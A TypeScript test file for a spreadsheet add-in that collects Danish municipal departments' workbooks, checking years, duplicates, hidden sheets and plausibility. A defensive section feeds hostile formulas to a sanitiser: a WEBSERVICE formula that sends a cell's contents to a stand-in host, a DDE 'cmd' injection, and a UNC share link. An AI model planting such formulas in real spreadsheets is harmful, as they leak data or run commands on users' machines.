/** The collect plan, computed from grids alone (src/core/collect.ts). */
import { validate } from "../../src/core";
import { isUntouchedTemplate, mailText, planCollect, planRestore, plausibilityText, problemText, removedText, type CollectFile, type CollectProblem, type DeliveryRow, type Plausibility } from "../../src/core/collect";
import { formatRisk, formulaKind } from "../../src/core/delivery-values";
import { keptCopyName } from "../../src/core/kept-copy";
import { forvaltningTemplate } from "../../src/core/forvaltning-template";
import type { SheetGrid, WorkbookGrid } from "../../src/core/grid";
import { departmentTemplate } from "../../src/core/template";
import { DEFAULT_UNIT_CODES } from "../../src/core/units";
import { deptSheet, sheet, workbook } from "../support/grid";
import { PROOF_2014, proofGrid } from "../support/rulebook-workbooks";
import { COLLECT, COLLECT_PANE } from "../../src/messages/da";
import { keyFigure } from "../../src/taskpane/collect-view";

/** A template sheet's values as a grid, as a host would read the written sheet back. */
function templateSheet(code: string, year: number): SheetGrid {
  return sheet(code, departmentTemplate(code, year).values.map((r) => [...r]));
}

const file = (name: string, ...sheets: SheetGrid[]): CollectFile => ({ file: name, lastSaved: "2026-02-01T10:00:00.000Z", grid: workbook(...sheets) });
const target = (...sheets: SheetGrid[]): WorkbookGrid => workbook(...sheets);

describe("planCollect", () => {
  it("inserts a new forvaltning's sheet and fills jobstatus's own blank template sheet", () => {
    const plan = planCollect(target(templateSheet("BIF", 2025)), [file("bif.xlsx", deptSheet("BIF", 2025)), file("buf.xlsx", deptSheet("BUF", 2025))], { choice: "ask" });
    expect(plan.actions.map((a) => [a.code, a.kind, a.file])).toEqual([
      ["BIF", "fill-template", "bif.xlsx"],
      ["BUF", "insert", "buf.xlsx"],
    ]);
    expect(plan.undecided).toBe(false);
    const bif = plan.overview.find((r) => r.code === "BIF");
    expect(bif).toMatchObject({ state: "delivered", errors: 0, warnings: 0, lastSaved: "2026-02-01T10:00:00.000Z", source: { file: "bif.xlsx", sheet: "BIF" } });
    expect(bif?.figures?.samlet).toBeCloseTo(5.5 + 40.25 + 3.1, 12);
    expect(bif?.figures?.fleksjob).toBe(50);
    expect(plan.overview.filter((r) => r.state === "missing").map((r) => r.code)).toEqual(["KFF", "SOF", "SUF", "TMF", "ØKF"]);
  });

  it("flags a sheet for the wrong year against the analyst's workbook", () => {
    // The analyst's workbook as skabelon made it: seven blank 2025 sheets.
    const plan = planCollect(target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2025))), [file("bif.xlsx", deptSheet("BIF", 2024)), file("buf.xlsx", deptSheet("BUF", 2025))], { choice: "ask" });
    const bif = plan.overview.find((r) => r.code === "BIF");
    expect(bif?.issues.map((i) => `${i.severity}:${i.code}@${i.cell}`)).toContain("error:YEAR_MISMATCH@B2");
    expect(plan.problems.map((p) => p.kind)).not.toContain("year-undecided");
  });

  it("with only one file for another year there is no majority: HR is told to check, and the department's mail says nothing of the year", () => {
    const plan = planCollect(target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2025))), [file("BUF-2024.xlsx", deptSheet("BUF", 2024))], { choice: "ask" });
    expect(plan.problems).toContainEqual({ kind: "year-undecided", workbookYear: 2025, fileYear: 2024, file: "BUF-2024.xlsx" });
    expect(problemText(plan.problems.find((p) => p.kind === "year-undecided") as CollectProblem)).toContain("Din projektmappe er for 2025, men den eneste afleverede fil, »BUF-2024.xlsx«, er for 2024");
    const buf = plan.overview.find((r) => r.code === "BUF");
    expect(buf?.issues.map((i) => i.code)).not.toContain("YEAR_MISMATCH");
    expect(mailText(buf as DeliveryRow)).not.toMatch(/2025|årstal|året/i);
  });

  it("tells a forvaltning whose sheet the analyst already has from one whose sheet is still the blank template", () => {
    const plan = planCollect(target(deptSheet("SOF", 2025), templateSheet("SUF", 2025)), [], { choice: "ask" });
    const row = (code: string) => plan.overview.find((r) => r.code === code);
    expect(row("SOF")).toMatchObject({ state: "in-workbook", figures: { fleksjob: 50 } });
    expect(row("SUF")).toMatchObject({ state: "missing", figures: null });
  });

  it("treats a template sheet with one typed figure as the analyst's own: a conflict, then replace with a kept copy or skip", () => {
    const typed = templateSheet("BUF", 2025);
    const values = typed.values.map((r) => [...r]);
    (values[4] as (string | number | null)[])[1] = 7;
    const own = { ...typed, values };
    expect(isUntouchedTemplate(templateSheet("BUF", 2025), "BUF")).toBe(true);
    expect(isUntouchedTemplate(own, "BUF")).toBe(false);
    const files = [file("buf.xlsx", deptSheet("BUF", 2025))];
    const ask = planCollect(target(own, sheet("BUF (erstattet)", [["x"]])), files, { choice: "ask" });
    expect(ask.undecided).toBe(true);
    expect(ask.actions[0]).toMatchObject({ kind: "conflict", existing: "BUF", existingFigures: { samlet: null, fleksjob: null } });
    const replace = planCollect(target(own, sheet("BUF (erstattet)", [["x"]])), files, { choice: "ask", choices: { BUF: "replace" } });
    // The kept copy's name is free: »BUF (erstattet)« is taken by a sheet of the analyst's.
    expect(replace.actions[0]).toMatchObject({ kind: "replace", existing: "BUF", keepAs: "BUF (erstattet 2)" });
    expect(planCollect(target(own), files, { choice: "skip" }).actions[0]?.kind).toBe("skip");
  });

  it("reports two sheets for one code, across files or in the workbook, and an unknown forvaltning, and takes none of them", () => {
    const plan = planCollect(target(deptSheet("SOF", 2025), deptSheet("sof ", 2025)), [
      file("a.xlsx", deptSheet("KFF", 2025)),
      file("b.xlsx", deptSheet("kff", 2025), deptSheet("XYZ", 2025)),
      file("c.xlsx", deptSheet("SOF", 2025)),
      file("d.xlsx", sheet("Noter", [["Intet her"]])),
    ], { choice: "replace" });
    expect(plan.actions).toEqual([]);
    expect(plan.problems).toEqual([
      { kind: "unknown-unit", file: "b.xlsx", sheet: "XYZ", code: "XYZ" },
      { kind: "no-department-sheet", file: "d.xlsx" },
      { kind: "duplicate-code", code: "KFF", sources: [{ file: "a.xlsx", sheet: "KFF" }, { file: "b.xlsx", sheet: "kff" }] },
      { kind: "duplicate-in-workbook", code: "SOF", sheets: ["SOF", "sof "] },
    ]);
  });

  it("validates a delivered sheet as HR will, in the analyst's workbook, and writes the errors as a mail back", () => {
    const plan = planCollect(target(), [file("tmf.xlsx", deptSheet("TMF", 2025, { fleksjob: 2.5, fritidsjob: null }))], { choice: "ask" });
    const tmf = plan.overview.find((r) => r.code === "TMF");
    expect(tmf?.errors).toBe(2);
    expect(tmf?.issues.map((i) => `${i.code}@${i.cell}`)).toEqual(["VALUE_NOT_WHOLE@B8", "VALUE_MISSING@B9"]);
    const mail = tmf ? mailText(tmf) : "";
    expect(mail).toContain("Til Teknik- og Miljøforvaltningen");
    expect(mail).toContain("»tmf.xlsx«");
    expect(mail).toContain("Fejl i TMF!B8:");
    expect(mail).toContain("Fejl i TMF!B9:");
  });
});

describe("a copy of the analyst's workbook among the inputs", () => {
  it("its sheet, equal to the workbook's, does not compete with a corrected delivery: the correction is the one delivery", () => {
    const own = deptSheet("BUF", 2025);
    const corrected = deptSheet("BUF", 2025, { loentilskud: 6.5 });
    const copy = file("HOVED-kopi.xlsx", deptSheet("BUF", 2025), deptSheet("SOF", 2025));
    const plan = planCollect(target(own, deptSheet("SOF", 2025)), [copy, file("BUF-rettet.xlsx", corrected)], { choice: "ask" });
    expect(plan.problems.filter((p) => p.kind === "duplicate-code")).toEqual([]);
    expect(plan.actions.map((a) => [a.code, a.kind, a.file])).toEqual([
      ["BUF", "conflict", "BUF-rettet.xlsx"],
      ["SOF", "unchanged", "HOVED-kopi.xlsx"],
    ]);
  });

  it("two different real deliveries still compete", () => {
    const plan = planCollect(target(deptSheet("BUF", 2025)), [file("a.xlsx", deptSheet("BUF", 2025, { loentilskud: 6.5 })), file("b.xlsx", deptSheet("BUF", 2025, { loentilskud: 7.5 }))], { choice: "ask" });
    expect(plan.overview.find((r) => r.code === "BUF")?.state).toBe("duplicate");
  });
});

describe("hidden sheets and one file for several forvaltninger", () => {
  it("a hidden or very hidden department sheet delivers nothing, with a note naming it", () => {
    for (const visibility of ["hidden", "veryHidden"] as const) {
      const kff = { ...deptSheet("KFF", 2025, { loentilskud: 99 }), visibility };
      const plan = planCollect(target(templateSheet("BUF", 2025), templateSheet("KFF", 2025)), [file("BUF-2025.xlsx", deptSheet("BUF", 2025), kff)], { choice: "ask" });
      expect(plan.actions.map((a) => a.code)).toEqual(["BUF"]);
      expect(plan.overview.find((r) => r.code === "KFF")?.state).toBe("missing");
      expect(plan.problems).toContainEqual({ kind: "hidden-sheet", file: "BUF-2025.xlsx", sheets: ["KFF"] });
      expect(problemText({ kind: "hidden-sheet", file: "BUF-2025.xlsx", sheets: ["KFF"] })).toContain("arket »KFF« skjult");
    }
  });

  it("one file filling two forvaltninger warns on both rows", () => {
    const plan = planCollect(target(templateSheet("BUF", 2025), templateSheet("KFF", 2025)), [file("Fælles.xlsx", deptSheet("BUF", 2025), deptSheet("KFF", 2025))], { choice: "ask" });
    const row = (c: string) => plan.overview.find((r) => r.code === c);
    expect(row("BUF")?.plausibility).toEqual([{ kind: "also-fills", others: ["KFF"] }]);
    expect(row("KFF")?.plausibility).toEqual([{ kind: "also-fills", others: ["BUF"] }]);
    expect(row("BUF")?.warnings).toBe(1);
    expect(plausibilityText("BUF", "Fælles.xlsx", { kind: "also-fills", others: ["KFF"] })).toContain("udfylder både BUF og KFF");
  });
});

describe("hostile number formats", () => {
  it("a format that hides the value, shows fixed text or is too long is not copied, and the cells are named", () => {
    const buf: CollectFile = {
      ...file("BUF-2025.xlsx", deptSheet("BUF", 2025)),
      numberFormats: { BUF: { B5: ";;;", B6: '"999";"999";"999"', B7: "0.0".repeat(1000), B8: "0", C5: '0 "stk";-0;"-"', B9: "#,##0.0" } },
    };
    const plan = planCollect(target(templateSheet("BUF", 2025)), [buf], { choice: "ask" });
    const a = plan.actions[0];
    if (!a || a.kind !== "fill-template") throw new Error("not filled");
    const fmt = (cell: string): string | null => {
      const p = /^([A-Z])(\d+)$/.exec(cell) as RegExpExecArray;
      return a.write.numberFormats[Number(p[2]) - 1]?.[(p[1] as string).charCodeAt(0) - 65] ?? null;
    };
    expect([fmt("B5"), fmt("B6"), fmt("B7")]).toEqual([null, null, null]);
    expect([fmt("B8"), fmt("C5"), fmt("B9")]).toEqual(["0", '0 "stk";-0;"-"', "#,##0.0"]);
    const row = plan.overview.find((r) => r.code === "BUF");
    expect(row?.plausibility).toEqual([{ kind: "formats-dropped", cells: ["B5", "B6", "B7"], count: 3 }]);
    expect(row?.warnings).toBe(1);
    // Zero shown as an accounting dash is zero, not hidden; zero under ;;; is hidden.
    expect(formatRisk('_-* #,##0_-;-* #,##0_-;_-* "-"_-;_-@_-', 0)).toBeNull();
    expect(formatRisk(";;;", 0)).toBe("hides");
    expect(formatRisk('0;-0;0;"skjult"', "tekst")).toBe("hides");
    expect(formatRisk("0;-0;0;@", "tekst")).toBeNull();
    expect(formatRisk('[<0]"neg";0', 5)).toBe("hides");
    expect(plausibilityText("BUF", "BUF-2025.xlsx", row?.plausibility[0] as Plausibility)).toContain("3 talformater i »BUF-2025.xlsx« ville skjule tallet eller vise en fast tekst i stedet for det (B5, B6 og B7)");
  });
});

describe("forvaltningTemplate", () => {
  it("unlocks exactly the input cells, and refuses a year without known weights", () => {
    const t = forvaltningTemplate("BUF", 2025);
    if (!t.ok) throw new Error("expected a template");
    expect(t.template.layout.sheetName).toBe("BUF");
    expect(t.template.unlocked.map((r) => [r.r1, r.c1])).toEqual([[4, 1], [4, 2], [5, 1], [5, 2], [6, 1], [6, 2], [7, 1], [8, 1]]);
    expect(forvaltningTemplate("BUF", 2031)).toEqual({ ok: false, reason: "weights-unknown" });
  });
});

describe("kept copies", () => {
  it("a hidden kept copy is neither counted nor reported; unhidden, it is read as any other sheet in the department layout", () => {
    const kept = { ...deptSheet("BUF", 2025, {}, "BUF (erstattet)"), visibility: "hidden" as const };
    const hidden = validate(workbook(deptSheet("BUF", 2025), kept));
    expect(hidden.units.map((u) => u.code)).toEqual(["BUF"]);
    expect(hidden.issues).toEqual([]);
    const shown = validate(workbook(deptSheet("BUF", 2025), { ...kept, visibility: "visible" }));
    expect(shown.units.map((u) => u.code)).toEqual(["BUF", "BUF (ERSTATTET)"]);
  });

  it("planRestore brings back the newest copy and keeps the current sheet in turn", () => {
    const hidden = (name: string): SheetGrid => ({ ...deptSheet("BUF", 2025, {}, name), visibility: "hidden" });
    const wb = workbook(deptSheet("BUF", 2025), hidden("BUF (erstattet)"), hidden("BUF (erstattet 2)"));
    expect(planRestore(wb, "buf")).toEqual({ ok: true, code: "BUF", restore: "BUF (erstattet 2)", as: "BUF", current: { name: "BUF", keepAs: "BUF (erstattet 3)" } });
    expect(planRestore(workbook(deptSheet("BUF", 2025)), "BUF")).toEqual({ ok: false, reason: "nothing-to-restore", code: "BUF" });
    expect(keptCopyName("ABCDEFGHIJKLMNOPQRSTUVWXYZABCDE", 2)).toHaveLength(31);
  });

  it("a long code's kept copies, shortened to Excel's 31 characters, are found again by planRestore", () => {
    const code = "BØRNE OG UNGDOMSFORVALTNINGEN";
    const hidden = (name: string): SheetGrid => ({ ...deptSheet(code, 2025, {}, name), visibility: "hidden" });
    const one = keptCopyName(code, 1);
    const two = keptCopyName(code, 2);
    expect([one.length, two.length]).toEqual([31, 31]);
    const wb = workbook(deptSheet(code, 2025), hidden(one), hidden(two));
    expect(planRestore(wb, code)).toMatchObject({ ok: true, restore: two, as: code, current: { name: code, keepAs: keptCopyName(code, 3) } });
    // Another code is not matched by the shortened name.
    expect(planRestore(wb, "BØRNE")).toEqual({ ok: false, reason: "nothing-to-restore", code: "BØRNE" });
  });
});

describe("collecting without harm (issue 18)", () => {
  const all2025 = (): WorkbookGrid => target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2025)));

  it("values only: a formula arrives as its cached value; what reached outside the sheet is named by cell", () => {
    expect(formulaKind('WEBSERVICE("http://x/?d="&ENCODEURL(INDIRECT("Noter!A1")))', "BUF")).toBe("webservice");
    expect(formulaKind("cmd|' /C calc'!A0", "BUF")).toBe("dde");
    expect(formulaKind("'\\\\host\\share\\[x.xlsx]Ark1'!A1", "BUF")).toBe("unc");
    expect(formulaKind("[1]Ark1!A1", "BUF")).toBe("external");
    expect(formulaKind("Ark1!N2", "BUF")).toBe("other-sheet");
    expect(formulaKind("'Mit ark'!N2+1", "BUF")).toBe("other-sheet");
    expect(formulaKind("FILTERXML(A1,\"//a\")", "BUF")).toBe("webservice");
    // As they are stored in a file: functions newer than Excel 2007 carry the _xlfn. prefix.
    expect(formulaKind('_xlfn.WEBSERVICE("http://x/")', "BUF")).toBe("webservice");
    expect(formulaKind('_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://x/"),"//a")', "BUF")).toBe("webservice");
    expect(formulaKind('"http://x/?d="&_xlfn.ENCODEURL(A1)', "BUF")).toBe("webservice");
    expect(formulaKind("_xlfn.IMAGE(A1)", "BUF")).toBe("webservice");
    expect(formulaKind("_xlfn._xlws.FILTER(A1:A3,B1:B3)", "BUF")).toBe("formula");
    expect(formulaKind("SUM(B5:B7)", "BUF")).toBe("formula");
    expect(formulaKind("BUF!B5*2", "BUF")).toBe("formula");
    expect(formulaKind('"a!b|c"&B5', "BUF")).toBe("formula");
    const sheetWithHelper = deptSheet("BUF", 2025, { loentilskud: 26.1 });
    const f: CollectFile = {
      ...file("BUF.xlsx", sheetWithHelper, sheet("Ark1", [[null]])),
      formulas: [
        { sheet: "BUF", cell: "B5", formula: "Ark1!N2" },
        { sheet: "BUF", cell: "B6", formula: 'WEBSERVICE("http://x")' },
        { sheet: "BUF", cell: "B7", formula: "B5/2" },
        { sheet: "Ark1", cell: "A1", formula: "cmd|' /C calc'!A0" },
      ],
      numberFormats: { BUF: { B5: "0.0" } },
    };
    const plan = planCollect(all2025(), [f], { choice: "ask" });
    const buf = plan.overview.find((r) => r.code === "BUF");
    expect(buf?.removed).toEqual({ named: [{ cell: "B5", kind: "other-sheet" }, { cell: "B6", kind: "webservice" }], outside: 2, plain: 1 });
    expect(removedText(buf?.removed)).toContain("B6 (læser fra nettet)");
    const action = plan.actions.find((a) => a.code === "BUF");
    // What is written: the grid's values (26,1 in B5, the department's own figure), and the number format; nothing else.
    expect(action?.write.values[4]?.[1]).toBe(26.1);
    expect(action?.write.numberFormats[4]?.[1]).toBe("0.0");
    expect(action?.write.values.flat().some((v) => typeof v === "string" && v.startsWith("="))).toBe(false);
  });

  it("no stalls: the blank template in an input is not delivered; the main workbook is skipped; a file named twice counts once", () => {
    // A department returns the shared workbook with only its own sheet filled in.
    const shared = file("Fælles-BUF.xlsx", ...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
    const main: CollectFile = { file: "HOVED.xlsx", grid: all2025(), isMain: true };
    const kff = { ...file("KFF.xlsx", deptSheet("KFF", 2025)), digest: "abc" };
    const plan = planCollect(all2025(), [main, shared, kff, { ...kff, file: "./KFF.xlsx" }], { choice: "ask" });
    expect(plan.actions.map((a) => [a.code, a.kind])).toEqual([["BUF", "fill-template"], ["KFF", "fill-template"]]);
    expect(plan.problems.map((p) => p.kind)).toEqual(["main-skipped", "named-twice", "blank-template"]);
    expect(plan.overview.filter((r) => r.state === "duplicate")).toEqual([]);
    // Two copies of one sheet under different names (same values) count once too.
    const twice = planCollect(all2025(), [file("a.xlsx", deptSheet("SOF", 2025)), file("b.xlsx", deptSheet("SOF", 2025))], { choice: "ask" });
    expect(twice.actions.map((a) => [a.code, a.kind, a.file])).toEqual([["SOF", "fill-template", "a.xlsx"]]);
  });

  it("an unreadable file is a row with its reason when its name tells the forvaltning; the rest are collected", () => {
    const plan = planCollect(all2025(), [file("BUF.xlsx", deptSheet("BUF", 2025))], {
      choice: "ask",
      unreadable: [{ file: "KFF-2025.xlsx", reason: "password" }, { file: "noget.xlsx", reason: "not-workbook" }],
    });
    expect(plan.overview.find((r) => r.code === "KFF")).toMatchObject({ state: "unreadable", unreadable: { file: "KFF-2025.xlsx", reason: "password" } });
    expect(plan.problems).toEqual([{ kind: "unreadable", file: "noget.xlsx", reason: "not-workbook" }]);
    expect(plan.actions.map((a) => a.code)).toEqual(["BUF"]);
  });

  it("an identical re-delivery is unchanged: no choice, no copy; a template with anything of the analyst's on it is a conflict", () => {
    const withBuf = target(...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
    const same = planCollect(withBuf, [file("BUF.xlsx", deptSheet("BUF", 2025))], { choice: "replace" });
    expect(same.actions.map((a) => a.kind)).toEqual(["unchanged"]);
    expect(same.overview.find((r) => r.code === "BUF")?.state).toBe("unchanged");
    expect(same.undecided).toBe(false);
    const touched = planCollect(all2025(), [file("BUF.xlsx", deptSheet("BUF", 2025))], { choice: "ask", touched: { BUF: ["notes"] } });
    expect(touched.actions.map((a) => [a.kind, a.kind === "conflict" ? a.touched : null])).toEqual([["conflict", ["notes"]]]);
    expect(touched.undecided).toBe(true);
  });

  it("an unchanged re-delivery says nothing of cells taken as values: nothing of it is inserted (review of issue 20, F6)", () => {
    const withBuf = target(...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
    const f: CollectFile = { ...file("BUF.xlsx", deptSheet("BUF", 2025)), formulas: [{ sheet: "BUF", cell: "B7", formula: "1+1" }] };
    const same = planCollect(withBuf, [f], { choice: "replace" });
    expect(same.actions.map((a) => a.kind)).toEqual(["unchanged"]);
    expect(removedText(same.overview.find((r) => r.code === "BUF")?.removed)).toBeNull();
    // The same file into the blank template is inserted, and the note is said.
    const inserted = planCollect(all2025(), [f], { choice: "replace" });
    expect(inserted.actions.map((a) => a.kind)).toEqual(["fill-template"]);
    expect(removedText(inserted.overview.find((r) => r.code === "BUF")?.removed)).toContain("Indsat som værdi");
  });

  it("plausibility: the wrong forvaltning by file name or field, and a replacement that changes a key figure by more than half", () => {
    // KFF's correction typed into BUF's template and saved as KFF-2025-rettet.xlsx.
    const wrong = deptSheet("BUF", 2025, { loentilskud: 1, virksomhedspraktik: 1, smaajob: 1 });
    const withBuf = target(...DEFAULT_UNIT_CODES.map((c) => (c === "BUF" ? deptSheet("BUF", 2025) : templateSheet(c, 2025))));
    const plan = planCollect(withBuf, [file("KFF-2025-rettet.xlsx", wrong)], { choice: "replace" });
    const row = plan.overview.find((r) => r.code === "BUF");
    expect(row?.plausibility).toEqual([
      { kind: "names-other", via: "file", other: "KFF" },
      { kind: "big-change", what: "samlet", before: 5.5 + 40.25 + 3.1, after: 3 },
    ]);
    expect(plausibilityText("BUF", "KFF-2025-rettet.xlsx", row?.plausibility[1] as Plausibility)).toContain("fra 48,9 til 3,0");
    // The Forvaltning field says KFF, the sheet is BUF.
    const field = sheet("BUF", deptSheet("BUF", 2025).values.map((r, i) => (i === 0 ? ["Forvaltning", "KFF"] : [...r])));
    const p2 = planCollect(all2025(), [file("BUF.xlsx", field)], { choice: "ask" });
    expect(p2.overview.find((r) => r.code === "BUF")?.plausibility).toEqual([{ kind: "names-other", via: "field", other: "KFF" }]);
  });

  it("a year that most files disagree with is the workbook's (HR's) problem, and never goes into a department's mail", () => {
    const files = ["BIF", "BUF", "KFF"].map((c) => file(`${c}.xlsx`, deptSheet(c, 2025)));
    const hr2024 = target(...DEFAULT_UNIT_CODES.map((c) => templateSheet(c, 2024)));
    const plan = planCollect(hr2024, files, { choice: "ask" });
    expect(plan.problems).toEqual([{ kind: "workbook-year", workbookYear: 2024, filesYear: 2025, files: 3, of: 3 }]);
    for (const r of plan.overview.filter((x) => x.state === "delivered")) {
      expect(r.issues.map((i) => i.code)).not.toContain("YEAR_MISMATCH");
      expect(mailText(r)).not.toMatch(/2024/);
    }
  });
});

describe("key figures follow the year's rulebook (review 22, item 1)", () => {
  // The 2014 shape: four schemes, each its own target (jobrotation in forløb, fleksjob and seniorjob
  // in persons, løntilskud in places); the workbook holds BUF and SOF, and BUF delivers a new sheet.
  const grid = proofGrid(PROOF_2014);
  const bufSheet = (scale: number): SheetGrid => {
    const buf = grid.sheets.find((s) => s.name === "BUF") as SheetGrid;
    return sheet("BUF", buf.values.map((r) => (typeof r[1] === "number" && r[0] !== "År" ? [r[0] ?? null, (r[1] as number) * scale, r[2] ?? null] : [...r])));
  };

  it("2014: every target by its own figure, none summed from nothing, and a big change per target", () => {
    const plan = planCollect(grid, [file("buf.xlsx", bufSheet(3))], { choice: "replace" });
    const buf = plan.overview.find((r) => r.code === "BUF");
    const u = PROOF_2014.units[0];
    expect(buf?.figures?.groups.map((g) => [g.id, g.status])).toEqual([
      ["jobrotation", 3 * (u?.status.Jobrotation ?? NaN)],
      ["fleksjob", 3 * (u?.status.Fleksjob ?? NaN)],
      ["seniorjob", 3 * (u?.status.Seniorjob ?? NaN)],
      ["loentilskud", 3 * (u?.status.Løntilskud ?? NaN)],
    ]);
    expect(buf?.figures?.samlet).toBeNull();
    expect(COLLECT.figuresOf(buf?.figures?.groups ?? [])).toBe("jobrotation 480, fleksjob 630, seniorjob 360, løntilskud 1.080,0");
    expect(buf?.plausibility.map((p) => (p.kind === "big-change" ? p.what : p.kind))).toEqual(["jobrotation", "fleksjob", "seniorjob", "loentilskud"]);
    const jobrotation = buf?.plausibility[0] as Plausibility;
    expect(plausibilityText("BUF", "buf.xlsx", jobrotation)).toBe("Advarsel: jobrotation for BUF ændres fra 160 til 480, mere end halvdelen. Tjek, at filen er den rigtige.");
  });

  it("2025: the notat's two key figures, worded as before (fritidsjob is not one of them)", () => {
    const plan = planCollect(target(templateSheet("BIF", 2025)), [file("bif.xlsx", deptSheet("BIF", 2025))], { choice: "ask" });
    const f = plan.overview.find((r) => r.code === "BIF")?.figures;
    expect(f?.groups.map((g) => g.id)).toEqual(["samlet", "fleksjob"]);
    expect(COLLECT.figuresOf(f?.groups ?? [])).toBe(COLLECT.figures(f?.samlet, f?.fleksjob));
    expect(COLLECT_PANE.figuresLineOf(f?.groups ?? [])).toBe(COLLECT_PANE.figuresLine(keyFigure(f?.samlet, 1), keyFigure(f?.fleksjob, 0)));
  });
});
